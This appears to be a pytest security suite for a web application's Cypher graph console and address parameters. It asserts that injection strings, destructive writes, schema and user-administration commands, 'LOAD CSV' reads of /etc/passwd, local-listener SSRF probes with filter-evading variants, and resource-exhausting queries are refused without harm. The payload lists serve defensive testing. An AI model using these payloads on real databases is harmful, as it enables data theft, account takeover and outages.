"""Cypher where it does not belong: in the values of addresses, and in the console. On a real engine: a hundred hostile statements
change nothing, reach nothing and are answered; a statement that takes too much is stopped and nobody else feels it."""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Callable, Container, Iterator, Mapping
from itertools import cycle, islice
from typing import Any

import psutil
import pytest
from sqlalchemy import select
from werkzeug.test import TestResponse

from app import store, throttling
from app.console import run as running
from app.console.gate import Refused
from app.console.run import Answer, Console, Stopped, Wrong
from app.graph import Graph, GraphSession
from app.refusals import Refusal
from app.store import AuditEntry
from tests.conftest import Site
from tests.graph.test_console import SEES, copy_of, everything
from tests.probe import listening
from tests.trust import crawl
from tests.web.conftest import Browser

ATTACKS = (
    "' OR 1=1 //",
    "` RETURN 1 //",
    "\\u0060 RETURN 1 //",
    "\\u0027 OR 1=1 //",
    "}) DETACH DELETE n //",
    "*) OR (a AND \\",
)


LISTS = {
    "directory.institutions", "directory.teachers", "directory.projects", "explore.view", "explore.search", "explore.narrowing",
    "paths.find", "reports.library", "reports.page", "bulletin.listed", "library.listed", "niche.programmes",
}  # fmt: skip
"""Lists, searches, the picture and a report: what takes most values."""
Valued = Callable[..., list[tuple[Browser, str, str]]]


@pytest.fixture
def valued(site: Site, monkeypatch: pytest.MonkeyPatch) -> Valued:
    """`valued(endpoints)`: somebody who may ask, the path, and a name of a value that the view takes; all there are without."""
    monkeypatch.setattr(throttling, "spend", lambda *_: None)
    askers = crawl.Askers(site)
    for role in crawl.ASKERS:
        assert askers[role]
    monkeypatch.setattr(site.app, "request_class", crawl.Listening)

    def look(endpoints: Container[str] = ()) -> list[tuple[Browser, str, str]]:
        found = []
        for endpoint, path in crawl.addresses(site.app, every_report=not endpoints):
            if endpoints and endpoint not in endpoints:
                continue
            asking = askers[crawl.asker(site.app, endpoint)]
            crawl.Heard.names = set()
            page = asking.get(path)
            names = crawl.Heard.names | (crawl.fields(page.text) if page.mimetype == "text/html" else set())
            found += [(asking, path, name) for name in sorted(names)]
        return found

    return look


def _attacked(ways: list[tuple[Browser, str, str]], database: Graph, each: int) -> None:
    """Puts so many attacks into every value, another one each time: none is a fault of ours, and the graph is what it was."""
    before, wrong, attacks = everything(database), [], cycle(ATTACKS)
    for asking, path, name in ways:
        for attack in islice(attacks, each):
            status = asking.get(path, query_string={name: attack}).status_code
            if status >= 500:
                wrong.append(f"GET {path} with {name}={attack}: expected a page or a 400, got {status}")
    assert not wrong
    assert everything(database) == before, "the graph was changed by a value of an address"


def test_01a_no_value_of_a_list_a_search_or_a_report_is_cypher(valued: Valued, database: Graph) -> None:
    ways = valued(LISTS)
    assert len(ways) > 40, (
        f"few values are taken, is the list of them whole? {[(path, name) for _, path, name in ways]}"
    )
    _attacked(ways, database, each=1)


@pytest.mark.long
def test_01b_no_value_of_any_address_is_cypher(valued: Valued, database: Graph) -> None:
    ways = valued()
    assert len({path for _, path, _ in ways}) > 60, "few addresses take values: is the list of them whole?"
    _attacked(ways, database, each=len(ATTACKS))


@pytest.mark.parametrize("attack", ATTACKS)
def test_01c_a_search_takes_it_as_the_text_that_it_is(site: Site, attack: str) -> None:
    asking = crawl.Askers(site)["coordinator"]
    letters = " ".join(re.findall(r"\w+", attack))
    found = [asking.get("/api/search", query_string={"q": text}).get_json() for text in (attack, letters)]
    ids = [[row["id"] for row in each["results"]] for each in found]
    assert ids[0] == ids[1], f"{attack!r} should find what its letters find ({ids[1]}), and finds {ids[0]}"
    assert found[0]["of"] < 60, f"{attack!r} should not find everything, and finds {found[0]['of']}"


@pytest.mark.parametrize(
    "address",
    [
        *(
            f"/{where}?sort=n.name%20DESC"
            for where in ("institutions", "teachers", "projects", "reports/institutions_map")
        ),
        "/institutions?kind=no-such",
        "/institutions?sector=no-such",
        "/api/explore/view?level=galaxy",
        "/api/explore/neighbours/school-7?level=galaxy",
        "/api/explore/paths?way=school-7,museum&through=EVIL",
        "/api/explore/paths?way=school-7,museum&best=EVIL",
        "/reports/no_such",
        "/export/file?format=evil",
    ],
)
def test_02_what_is_not_on_a_list_is_refused(site: Site, address: str) -> None:
    answer = crawl.Askers(site)["coordinator"].get(address)
    expected = 404 if address == "/reports/no_such" else 400
    assert answer.status_code == expected, f"{address}: expected {expected}, got {answer.status_code}"


@pytest.fixture(scope="module")
def probe() -> Iterator[tuple[int, list[str]]]:
    """A listener on this machine that writes down who came."""
    with listening() as found:
        yield found


WRITES = [
    "CREATE (:Teacher {id: 'evil'})",
    "MATCH (n) DETACH DELETE n",
    "MATCH (n) DELETE n",
    "MATCH (n:Institution) SET n.name = 'evil'",
    "MATCH (n:Institution) SET n:Evil",
    "MATCH (n:Institution) REMOVE n.name",
    "MERGE (:Teacher {id: 'evil'})",
    "MATCH (a:Institution), (b:Institution) MERGE (a)-[:FORMAL_TIE {id: 'evil'}]->(b)",
    "INSERT (:Teacher {id: 'evil'})",
    "MATCH (n) NODETACH DELETE n",
    "UNWIND [1, 2] AS x FOREACH (y IN [x] | CREATE (:Evil))",
    "MATCH (n) CALL (n) { DETACH DELETE n } IN TRANSACTIONS",
    "CALL { CREATE (:Evil) } RETURN 1",
    "MATCH (n) WITH n LIMIT 1 SET n += {name: 'evil'} RETURN n",
    "create (:Evil)",
    "CrEaTe (:Evil)",
    "RETURN COLLECT { CREATE (n:Evil) RETURN n }",
    "RETURN EXISTS { CREATE (n:Evil) RETURN n }",
    "RETURN COUNT { MERGE (n:Evil) RETURN n }",
    "MATCH (n) RETURN n; MATCH (n) DETACH DELETE n",
    "RETURN 1 UNION CREATE (n:Evil) RETURN 2",
    "WITH 1 AS x CALL (x) { WITH x MERGE (n:Evil) RETURN n } RETURN n",
]


SCHEMA = [
    "CREATE INDEX evil FOR (n:Teacher) ON (n.name)",
    "CREATE CONSTRAINT evil FOR (n:Teacher) REQUIRE n.name IS UNIQUE",
    "DROP CONSTRAINT teacher_id",
    "DROP INDEX names IF EXISTS",
    "CALL db.createLabel('Evil')",
    "CALL db.createProperty('evil')",
    "CALL db.createRelationshipType('EVIL')",
    "CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()",
    "CALL db.awaitIndexes(300)",
]


FILES = [
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "LOAD CSV WITH HEADERS FROM 'file:///etc/passwd' AS line RETURN line",
    "LOAD CSV FROM 'http://127.0.0.1:{port}/?leak=1' AS line RETURN line",
    "LOAD CSV FROM 'http://localhost:{port}/?leak=2' AS line RETURN line",
    "LOAD CSV FROM 'http://[::1]:{port}/?leak=3' AS line RETURN line",
    "LOAD CSV FROM 'http://0177.0.0.1:{port}/?leak=4' AS line RETURN line",
    "LOAD CSV FROM 'ftp://127.0.0.1:{port}/x' AS line RETURN line",
    "RETURN COLLECT {{ LOAD CSV FROM 'http://127.0.0.1:{port}/?leak=5' AS line RETURN line }}",
    "RETURN EXISTS {{ LOAD CSV FROM 'http://127.0.0.1:{port}/?leak=6' AS line RETURN line }}",
    "RETURN COUNT {{ LOAD CSV FROM 'http://127.0.0.1:{port}/?leak=7' AS line RETURN line }}",
    "CALL {{ LOAD CSV FROM 'http://127.0.0.1:{port}/?leak=8' AS line RETURN line }} RETURN line",
    "LOAD/**/CSV FROM 'http://127.0.0.1:{port}/?leak=9' AS line RETURN line",
    "LOAD // x\nCSV FROM 'http://127.0.0.1:{port}/?leak=10' AS line RETURN line",
    "load\tcsv from 'http://127.0.0.1:{port}/?leak=11' as line return line",
    "LOAD\u00a0CSV FROM 'http://127.0.0.1:{port}/?leak=12' AS line RETURN line",
    "LOAD\u2003CSV FROM 'http://127.0.0.1:{port}/?leak=13' AS line RETURN line",
    "\\u004cOAD CSV FROM 'http://127.0.0.1:{port}/?leak=14' AS line RETURN line",
    "RETURN COLLECT {{ \\u004cOAD CSV FROM 'http://127.0.0.1:{port}/?leak=15' AS line RETURN line }}",
    "RETURN '\\u0027, COLLECT {{ LOAD CSV FROM \\u0027http://127.0.0.1:{port}/?leak=16\\u0027 AS l RETURN l }} //'",
    "MATCH (n) WHERE n.`a\\u0060, x AS b` RETURN 1",
    "LOAD\u200bCSV FROM 'http://127.0.0.1:{port}/?leak=17' AS line RETURN line",
    "CYPHER 25 LOAD CSV FROM 'http://127.0.0.1:{port}/?leak=18' AS line RETURN line",
    "/* */ LOAD CSV FROM 'http://127.0.0.1:{port}/?leak=19' AS line RETURN line /* */",
]


ADMINISTRATION = [
    "SHOW USERS",
    "SHOW TRANSACTIONS",
    "SHOW SETTINGS",
    "SHOW DATABASES",
    "SHOW PROCEDURES",
    "SHOW FUNCTIONS",
    "SHOW INDEXES",
    "SHOW CURRENT USER",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "USE system SHOW USERS",
    "USE system MATCH (n) RETURN n",
    "CREATE USER evil SET PASSWORD 'evilevil'",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'",
    "ALTER USER neo4j SET PASSWORD 'evilevil'",
    "DROP USER neo4j",
    "GRANT ROLE admin TO neo4j",
    "CREATE DATABASE evil",
    "STOP DATABASE neo4j",
    "START DATABASE neo4j",
    "ENABLE SERVER 'x'",
    "CALL dbms.listConfig()",
    "CALL dbms.killConnections(['x'])",
    "CALL dbms.listConnections()",
    "CALL dbms.queryJmx('*:*')",
    "CALL dbms.components()",
    "CALL dbms.setConfigValue('db.transaction.timeout', '0')",
    "CALL db.clearQueryCaches()",
    "CALL db.info()",
    "CALL db.stats.retrieve('QUERIES')",
    "CALL tx.getMetaData()",
    "CALL `dbms`.`listConfig`()",
    "CALL dbms . listConfig ( )",
    "CALL/**/dbms/**/.listConfig()",
    "OPTIONAL CALL dbms.listConfig() YIELD name RETURN name",
    "RETURN COLLECT { CALL dbms.listConfig() YIELD name RETURN name }",
    "RETURN COLLECT { CALL `dbms`.`listConfig`() YIELD name RETURN name }",
    "RETURN COLLECT { SHOW USERS YIELD user RETURN user }",
    "CALL gds.graph.project('g', '*', '*')",
    "MATCH (a)-->(b) RETURN gds.graph.project('g', a, b)",
    "MATCH (a)-->(b) RETURN `gds`.`graph`.`project`('g', a, b)",
    "CALL gds.graph.export('g', {dbName: 'stolen'})",
    "RETURN gds.version()",
    "CALL apoc.load.json('http://127.0.0.1/')",
    "RETURN apoc.version()",
    "RETURN genai.vector.encode('x', 'OpenAI', {token: 'x'})",
]


PREFIXES = [
    "EXPLAIN MATCH (n) RETURN n",
    "PROFILE MATCH (n) DELETE n",
    "CYPHER 5 MATCH (n) DELETE n",
    "CYPHER runtime=slotted RETURN 1",
    "; MATCH (n) DETACH DELETE n",
    "RETURN 1;;",
    "RETURN 1; RETURN 2",
    "// only a comment",
    "/* not ended",
    "RETURN 'not ended",
    "MATCH (`n) RETURN 1",
    "",
    "   \n\t ",
    "MATCH (n) RETURN n.name \u202e // x",
    "MATCH (n\x00) RETURN n",
    "RETURN '\ud800'",
]


DEEP = [
    "RETURN " + "(" * 5000 + "1" + ")" * 5000,
    "RETURN " + "[" * 400 + "1" + "]" * 400,
    "RETURN " + "NOT " * 400 + "true",
    "RETURN " + "-" * 400 + "1",
    "MATCH (n) WHERE " + "EXISTS { MATCH (n)-->() WHERE " * 50 + "true" + " }" * 50 + " RETURN n",
    "RETURN " + "1+" * 9000 + "1",
    "RETURN " + "1+" * 1990 + "1",
    "RETURN a" + ".b" * 1900,
    "RETURN " + "CASE WHEN true THEN " * 200 + "1" + " END" * 200,
    "RETURN {a: " * 100 + "1" + "}" * 100,
    "RETURN [" + ",".join(["1"] * 5000) + "]",
    "RETURN '" + "x" * 5_000_000 + "'",
]


WRONG = ["RETURN", "MATCH (n RETURN n", "MATCH (n) RETURN m", "SELECT * FROM users", "RETURN 1 / 0", "RETURN $missing"]


@pytest.fixture
def ask(site: Site, console: Console, database: Graph) -> Callable[..., Answer]:
    """`ask(text, **params)`: what an analyst is answered on the seed."""
    return lambda text, **params: console.run(database, 1, SEES, text, params)


@pytest.fixture
def refused(
    ask: Callable[..., Answer], console: Console, database: Graph, probe: tuple[int, list[str]]
) -> Callable[[list[str]], None]:
    """`refused(statements)`: each of them is refused or wrong; afterwards both graphs are as they were, nothing was reached."""

    def check(statements: list[str]) -> None:
        before, copied = everything(database), everything(copy_of(console, database))
        passed = []
        for statement in statements:
            try:
                passed.append(f"{statement[:80]} was answered: {ask(statement).rows[:3]}")
            except (Refused, Wrong) as refusal:
                if not refusal.message:
                    passed.append(f"{statement[:80]} was refused without a word")
        assert not passed, f"attacked: the console with {len(statements)} statements; expected: refusals; but {passed}"
        assert everything(database) == before, "the network was changed"
        assert everything(copy_of(console, database)) == copied, "the console’s copy was changed"
        assert probe[1] == [], f"an address was reached: {probe[1]}"

    return check


@pytest.mark.parametrize("statements", [WRITES, SCHEMA], ids=["data", "schema"])
def test_03a_the_console_changes_nothing(refused: Callable[[list[str]], None], statements: list[str]) -> None:
    refused(statements)


def test_03b_a_refusal_is_told_and_stands_in_the_trail(site: Site, database: Graph) -> None:
    asking = crawl.Askers(site)["analyst"]
    before = everything(database)
    for statement in (WRITES[0], SCHEMA[0], FILES[0], ADMINISTRATION[0], "; RETURN 1"):
        answer = _run(asking, statement)
        assert answer.status_code == 422, f"{statement}: expected 422, got {answer.status_code} {answer.text[:200]}"
    with store.of(site.app).session() as session:
        last = session.scalars(select(AuditEntry).order_by(AuditEntry.id.desc()).limit(10)).all()
    told = [(row.action, row.outcome) for row in reversed(last)]
    assert told == [("console.run", "begun"), ("console.run", "refused")] * 5, f"the trail says {told}"
    assert everything(database) == before, "the network was changed"


def _run(asking: Browser, statement: str) -> TestResponse:
    return asking.send("POST", "/api/console/run", json={"text": statement}, headers={"X-CSRFToken": asking.secret()})


def test_04_the_console_reads_no_file_and_no_address(
    refused: Callable[[list[str]], None], probe: tuple[int, list[str]]
) -> None:
    refused([text.format(port=probe[0]) for text in FILES])


def test_05a_the_console_administers_nothing(refused: Callable[[list[str]], None]) -> None:
    refused(ADMINISTRATION)


def test_05b_a_write_goes_through_while_somebody_attacks(
    refused: Callable[[list[str]], None], ask: Callable[..., Answer], database: Graph, content: Any
) -> None:
    """Ending other people’s transactions is what reading alone does not forbid."""
    content.name = "changed"  # whatever happens here, the next test fills the graph anew
    with database.driver_session("write") as session, session.begin_transaction() as transaction:
        transaction.run("CREATE (:Note {id: 'parallel'})").consume()
        for statement in ADMINISTRATION:
            with pytest.raises((Refused, Wrong)):
                ask(statement)
        transaction.commit()
    with database.driver_session("write") as session:
        left = session.run("MATCH (n:Note {id: 'parallel'}) DELETE n RETURN count(*)").single(strict=True)[0]
    assert left == 1, f"the parallel write should be there once, and is {left} times"


@pytest.mark.parametrize("statements", [PREFIXES, WRONG], ids=["prefixes", "nonsense"])
def test_06_no_prefix_and_no_sign_leads_round_the_gate(
    refused: Callable[[list[str]], None], statements: list[str]
) -> None:
    refused(statements)


def test_09_depth_and_length_are_refused_before_the_engine(
    refused: Callable[[list[str]], None], console: Console, database: Graph, monkeypatch: pytest.MonkeyPatch
) -> None:
    refused(DEEP)
    # Whoever is refused by the gate costs no connection: the copy is not even asked for.
    monkeypatch.setattr(console, "_copy", lambda *_: pytest.fail("the engine was asked"))
    for statement in DEEP:
        with pytest.raises(Refused):
            console.run(database, 1, SEES, statement, {})


ENDLESS = {
    "a product of all with all": "MATCH (a), (b), (c), (d) RETURN count(*)",
    "a path without bounds": "MATCH p = (a:Institution)-[*]-(b) RETURN count(p)",
    "a huge range": "UNWIND range(1, 1000000000000) AS x RETURN sum(x)",
    "sums five hundred deep": "RETURN " + "1+" * 495 + "1",
    "unions by the hundred": " UNION ".join(["MATCH (n) RETURN n.id AS x"] * 240),
    "conditions that multiply": "MATCH (n) WHERE "
    + " OR ".join(f"(n.a{i} = 1 AND n.b{i} = 2)" for i in range(45))
    + " RETURN n",
}
GREEDY = {
    "a huge collection": "UNWIND range(1, 20000000) AS x RETURN size(collect(x))",
    "a text that doubles": "WITH 'x' AS s " + "WITH s + s AS s " * 40 + "RETURN size(s)",
    "a list of fifty million": "RETURN size([x IN range(1, 50000000) | toString(x)])",
}
WIDE = {
    "one value of three million": "RETURN range(1, 3000000)",
    "very wide rows": "UNWIND range(1, 100000) AS x RETURN x, '" + "y" * 5000 + "'",
}


def slow(names: Mapping[str, str], long: str) -> list[Any]:
    """The names, the long one marked: it ends the console’s engine, which then starts anew."""
    return [pytest.param(name, marks=pytest.mark.long if name == long else ()) for name in names]


@pytest.fixture
def hurried(monkeypatch: pytest.MonkeyPatch) -> None:
    """The same limits, sooner."""
    monkeypatch.setattr(running, "SECONDS", 2.0)
    monkeypatch.setattr(running, "WALL_SECONDS", 6.0)


def _is_stopped(name: str, ask: Callable[..., Answer], seeded: Callable[..., GraphSession]) -> None:
    slowest, stop = [0.0], threading.Event()

    def somebody_else() -> None:
        while not stop.is_set():
            begun = time.perf_counter()
            seeded().rows("explore.municipalities")
            slowest[0] = max(slowest[0], time.perf_counter() - begun)
            stop.wait(0.1)

    ask("RETURN 1")  # the engine is up: its start is not what is timed
    other = threading.Thread(target=somebody_else)
    other.start()
    begun, outcome = time.perf_counter(), "answered"  # the engine may be able to carry it: that is no harm
    try:
        ask((ENDLESS | GREEDY | WIDE)[name])
    except Stopped as stopped:
        outcome = stopped.kind
    finally:
        took = time.perf_counter() - begun
        stop.set()
        other.join()
    print(f"{name}: {outcome} after {took:.1f} s, others waited {slowest[0]:.2f} s at most")
    assert outcome in ("answered", "time", "memory", "size")
    # Bounds of a machine with other work: what is not stopped goes on for hours, who is held up waits as long.
    assert took < 60, "it went on for too long"
    assert slowest[0] < 10, "somebody else waited"
    assert ask("RETURN 1 AS one").rows == [[1]], "the console does not work any more"


@pytest.mark.parametrize("name", slow(ENDLESS, "sums five hundred deep"))
def test_07a_what_has_no_end_is_stopped_and_others_go_on(
    name: str, ask: Callable[..., Answer], seeded: Callable[..., GraphSession], hurried: None
) -> None:
    _is_stopped(name, ask, seeded)


def test_07b_pages_answer_while_hostile_queries_run(site: Site, hurried: None) -> None:
    askers = crawl.Askers(site)
    others, attacker = askers["coordinator"], askers["analyst"]
    paths = ("/institutions", "/api/search?q=7", "/teachers/t-petrova-ia", "/healthz")
    _run(attacker, "RETURN 1")  # the engine is up
    stop, attacks = threading.Event(), 0

    def attack() -> None:
        nonlocal attacks
        while not stop.is_set():
            _run(attacker, ENDLESS["a huge range"])
            attacks += 1

    thread = threading.Thread(target=attack)
    thread.start()
    waited, statuses = [], []
    for path in paths * 2:
        begun = time.perf_counter()
        statuses.append(others.get(path).status_code)
        waited.append(time.perf_counter() - begun)
    stop.set()
    thread.join()
    answered = statuses.count(200)
    print(f"{answered} pages, the slowest after {max(waited):.2f} s")
    assert attacks, "nothing ran meanwhile: this test would prove nothing"
    assert answered == len(statuses), f"expected other pages to answer meanwhile, got {statuses}"
    assert max(waited) < 10, f"somebody else waited {max(waited):.1f} s"


@pytest.mark.parametrize("name", slow(GREEDY, "a list of fifty million"))
def test_08a_what_needs_all_memory_is_stopped_and_the_engine_lives(
    name: str, ask: Callable[..., Answer], seeded: Callable[..., GraphSession], hurried: None
) -> None:
    _is_stopped(name, ask, seeded)


@pytest.mark.parametrize("name", WIDE)
def test_10b_what_is_too_large_to_show_is_cut_off(
    name: str, ask: Callable[..., Answer], seeded: Callable[..., GraphSession], hurried: None
) -> None:
    _is_stopped(name, ask, seeded)


def test_10a_a_long_answer_says_how_long_it_is(ask: Callable[..., Answer], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(running, "SECONDS", 120.0)  # how far it counts is asked here, not how soon it gives up
    monkeypatch.setattr(running, "WALL_SECONDS", 150.0)
    found = ask("UNWIND range(1, 4321) AS x RETURN x")
    assert (len(found.rows), found.total, found.is_exact) == (running.ROWS, 4321, True)
    endless = ask("UNWIND range(1, 900000) AS x RETURN x")
    assert (len(endless.rows), endless.is_exact) == (running.ROWS, False)
    assert endless.total >= running.COUNTED


@pytest.mark.long
def test_10c_a_hundred_million_rows_leave_the_memory_as_it_was(ask: Callable[..., Answer], hurried: None) -> None:
    ask("UNWIND range(1, 1000) AS x RETURN x")
    before = _memory()
    found = ask("UNWIND range(1, 100000000) AS x RETURN x, toString(x)")
    grown = _memory() - before
    assert (len(found.rows), found.is_exact) == (running.ROWS, False), "the first rows, and “at least” said"
    assert grown < 100 << 20, f"expected less than 100 MB more, it took {grown >> 20} MB"


def _memory() -> int:
    return psutil.Process().memory_info().rss


def test_11_twenty_slow_queries_wait_in_a_line_and_the_rest_is_told_to_come_later(
    site: Site, console: Console, database: Graph, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(running, "WAIT_SECONDS", 0.2)
    monkeypatch.setattr(running, "SECONDS", 6.0)
    monkeypatch.setattr(running, "WALL_SECONDS", 12.0)
    askers = crawl.Askers(site)
    outcomes: list[str] = []

    def slowly(account: int) -> None:
        try:
            console.run(database, account, SEES, ENDLESS["a huge range"], {})
        except Refusal as refusal:
            outcomes.append(f"{refusal.status} {type(refusal).__name__}")

    _run(askers["analyst"], "RETURN 1")  # the engine is up
    threads = [threading.Thread(target=slowly, args=(1000 + number,)) for number in range(20)]
    for thread in threads:
        thread.start()
    waiting = _run(askers["analyst"], "RETURN 1")
    page = askers["coordinator"].get("/institutions")
    for thread in threads:
        thread.join()
    assert waiting.status_code == 429, f"a person in the line: expected 429, got {waiting.status_code}"
    assert int(waiting.headers["Retry-After"]) > 0
    assert page.status_code == 200, f"another page: expected 200, got {page.status_code}"
    assert len(outcomes) == 20, f"every query ends: {outcomes}"
    assert outcomes.count("422 Stopped") >= running.AT_ONCE, outcomes
    assert set(outcomes) == {"422 Stopped", "429 InLine"}, outcomes
    assert _run(askers["analyst"], "RETURN 1").status_code == 200, "the console does not work any more"
